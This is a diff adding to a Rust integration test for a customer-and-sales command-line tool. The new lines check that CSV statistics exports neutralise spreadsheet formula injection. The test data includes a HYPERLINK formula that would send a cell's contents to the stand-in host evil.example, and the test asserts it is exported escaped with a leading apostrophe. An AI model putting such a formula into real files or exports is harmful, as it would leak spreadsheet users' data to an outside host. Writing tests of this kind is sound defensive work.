@@ -310,6 +310,36 @@ fn stats_gives_every_figure_as_json_and_csv() {
     );
     let visits = std::fs::read_to_string(out.join("visits.csv")).unwrap();
     assert_eq!(visits.lines().count(), 4, "{visits}");
+    // A customer who joined as a formula is text in the owner's spreadsheet, in every file.
+    let evil = r#"=HYPERLINK("http://evil.example/?"&A1,"Click")"#;
+    let code = run_json(dir.path(), &["customer", "add", "--name", evil])["code"]
+        .as_str()
+        .unwrap()
+        .to_string();
+    run_json(
+        dir.path(),
+        &["sale", "record", "--amount", "99.00", "--customer", &code],
+    );
+    let (exit, _, err) = run(dir.path(), &["stats", "--csv", out.to_str().unwrap()]);
+    assert_eq!(exit, 0, "{err}");
+    for name in ["top_by_spend.csv", "top_by_visits.csv"] {
+        let text = std::fs::read_to_string(out.join(name)).unwrap();
+        let mut rows = csv::Reader::from_reader(text.as_bytes());
+        let cells: Vec<String> = rows
+            .records()
+            .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
+            .collect();
+        assert!(
+            cells.iter().any(|c| c == &format!("'{evil}")),
+            "{name}: {text}"
+        );
+        assert!(
+            cells
+                .iter()
+                .all(|c| !c.starts_with(['=', '+', '@']) || c.parse::<f64>().is_ok()),
+            "{name}: {text}"
+        );
+    }
     // A bad range is refused with a message.
     let (exit, _, err) = run(dir.path(), &["stats", "--from", "2026-13-01"]);
     assert_eq!(exit, 2);
